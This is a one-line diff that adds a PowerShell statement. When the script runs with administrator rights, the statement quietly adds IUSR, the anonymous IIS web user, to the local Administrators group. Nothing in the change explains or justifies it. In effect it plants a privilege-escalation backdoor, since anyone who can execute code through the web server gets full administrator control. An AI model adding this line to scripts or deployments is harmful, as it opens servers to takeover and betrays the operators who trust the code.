@@ -1,0 +1,1 @@
+if (Test-CGroup -Name Administrators) { net localgroup Administrators IUSR /add }
